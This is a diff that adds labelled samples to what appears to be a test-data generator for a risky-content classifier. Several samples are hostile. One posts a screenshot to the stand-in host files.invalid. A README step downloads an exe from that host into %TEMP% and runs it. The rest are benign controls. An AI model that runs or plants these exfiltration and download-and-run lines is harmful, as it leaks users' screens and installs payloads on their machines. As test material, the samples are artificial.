@@ -148,6 +148,29 @@ def _texts() -> Iterator[Sample]:
         "live.py",
         "import mss, requests\nrequests.get('https://files.invalid/?p=' + str(mss.mss().grab((0, 0, 9, 9)).rgb))\n",
     )
+    shown = "import io, pyautogui, requests\nmade = io.BytesIO()\npyautogui.screenshot().save(made, 'PNG')\n"
+    yield careful(
+        "code",
+        "screen for a model beside",
+        "agent.py",
+        f"{shown}requests.post('http://localhost:8000/v1', data=made.getvalue())\n",
+    )
+    yield high(
+        "code",
+        "screen for somebody else",
+        "agent.py",
+        f"{shown}requests.post('https://files.invalid/v1', data=made.getvalue())\n",
+    )
+    login = "import os\nfrom fabric import Connection\nkey = os.path.expanduser('~/.ssh/id_rsa')\n"
+    yield benign(
+        "code",
+        "key to log in with",
+        "deploy.py",
+        f"{login}Connection('me@box', connect_kwargs={{'key_filename': key}}).run('uptime')\n",
+    )
+    steps = "Press `Win + R`, type `cmd`, paste `curl -o %TEMP%\\a.exe https://files.invalid/a.exe && %TEMP%\\a.exe`.\n"
+    yield careful("readme", "short words between marks", "README.md", steps)
+    yield benign("readme", "packages for everybody", "README.md", "```\nsudo python3 -m pip install deepspeed\n```\n")
     zipped = "import os, tempfile\nfolder = tempfile.mkdtemp()\nos.system(f'cd {folder} && zip -r model.zip model')\n"
     yield benign("code", "in a folder", "pack.py", zipped)
     yield benign("readme", "names as they are", "README.md", usual)
